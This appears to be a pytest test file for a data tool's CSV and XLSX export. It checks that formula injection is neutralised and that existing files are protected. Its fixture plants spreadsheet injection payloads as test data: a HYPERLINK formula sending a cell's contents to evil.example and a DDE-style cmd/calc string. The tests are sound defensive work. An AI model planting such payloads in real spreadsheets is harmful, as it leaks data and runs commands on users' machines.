"""Export safety (issue 13): formula injection neutralised, outputs replaced only when safe."""

from __future__ import annotations

import io
import json

import pandas as pd
import pytest

from haldenenergie import export as E

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Halde")'


@pytest.fixture
def evil_ranked(folder, cli):
    """The 6-heap ranked folder with formula-like names and a formula-like city."""
    res = pd.read_csv(folder / "results.csv", dtype={"heap_id": str})
    res.loc[0, "name"] = EVIL
    res.loc[1, "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    res.loc[2, "name"] = "-2+3"
    res.loc[3, "city"] = "\tTab"
    res.to_csv(folder / "results.csv", index=False)
    cli("rank", folder)
    return folder


def test_tables_defuse_rules():
    assert E.tables.is_formula_like("=1+1") and E.tables.is_formula_like("+x")
    assert E.tables.is_formula_like("-2+3") and E.tables.is_formula_like("@x")
    assert E.tables.is_formula_like("\tx") and E.tables.is_formula_like("\rx")
    assert not E.tables.is_formula_like("-3.5") and not E.tables.is_formula_like("-3,5")
    assert not E.tables.is_formula_like(-3.5) and not E.tables.is_formula_like(None)
    assert not E.tables.is_formula_like("Halde Haniel")
    assert E.tables.defuse("=1+1") == "'=1+1" and E.tables.defuse(-2) == -2


@pytest.mark.parametrize("lang", ["de", "en"])
def test_csv_neutralises_formula_cells(evil_ranked, tmp_path, cli, lang):
    out = tmp_path / f"x_{lang}.csv"
    cli("export", evil_ranked, "--format", "csv", "--lang", lang, "--out", out)
    sep = ";" if lang == "de" else ","
    text = out.read_text("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), sep=sep, dtype=str, keep_default_na=False)
    cells = set(back.to_numpy().ravel())
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'\tTab" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    # numbers stay numbers: no quote before a number, negative or not
    assert not any(c.startswith("'") and c[1:2].isdigit() for c in cells)


def test_xlsx_formula_cells_are_text(evil_ranked, tmp_path, cli):
    import openpyxl

    out = tmp_path / "x.xlsx"
    cli("export", evil_ranked, "--format", "xlsx", "--out", out)
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    ws = wb.worksheets[0]
    found = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert any(isinstance(c.value, (int, float)) for c in ws[2])  # numbers stay numbers


def test_export_refuses_to_replace_a_folder(ranked, tmp_path, invoke):
    target = tmp_path / "sub"
    target.mkdir()
    (target / "keep.txt").write_text("mine", "utf-8")
    r = invoke("export", ranked, "--format", "csv", "--out", target, "--overwrite")
    assert r.exit_code in (1, 2)
    assert "Traceback" not in r.output and len(r.output.strip().splitlines()) >= 1
    assert (target / "keep.txt").read_text("utf-8") == "mine"


def test_export_refuses_to_replace_the_folders_own_files(ranked, invoke):
    before = (ranked / "results.csv").read_bytes()
    r = invoke("export", ranked, "--format", "csv", "--out", ranked / "results.csv", "--overwrite")
    assert r.exit_code == 1
    assert r.stderr.strip().count("\n") == 0
    assert "holds the input" in r.stderr and "results.csv" in r.stderr
    assert (ranked / "results.csv").read_bytes() == before


def test_export_into_the_folder_is_recorded_as_ours(ranked, cli):
    out = ranked / "ranking_de.csv"
    cli("export", ranked, "--format", "csv", "--out", out)
    man = json.loads((ranked / "manifest.json").read_text("utf-8"))
    rec = [r for r in man["derived"] if r["path"] == "ranking_de.csv"]
    assert rec and rec[0]["command"] == "export --format csv" and len(rec[0]["sha256"]) == 64
    cli("export", ranked, "--format", "csv", "--out", out, "--overwrite")
    man = json.loads((ranked / "manifest.json").read_text("utf-8"))
    assert [r["path"] for r in man["derived"]].count("ranking_de.csv") == 1


def test_export_to_an_unwritable_place_is_one_line(ranked, invoke):
    r = invoke("export", ranked, "--format", "csv", "--out", "/sys/haldenenergie.csv")
    assert r.exit_code == 1
    line = r.stderr.strip()
    assert "\n" not in line and "Traceback" not in r.output
    assert line.startswith("error: /sys/haldenenergie.csv: cannot write (")


def test_export_locked_by_another_run(ranked, tmp_path, invoke):
    import socket
    import subprocess
    import sys

    p = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        out = tmp_path / "x.xlsx"
        lock = tmp_path / ".x.xlsx.lock"
        lock.write_text(json.dumps({"pid": p.pid, "host": socket.gethostname()}), "utf-8")
        r = invoke("export", ranked, "--format", "xlsx", "--out", out)
        assert r.exit_code == 1
        assert f"another haldenenergie run (pid {p.pid}" in r.stderr
        assert not out.exists() and lock.exists()
    finally:
        p.kill()
        p.wait()
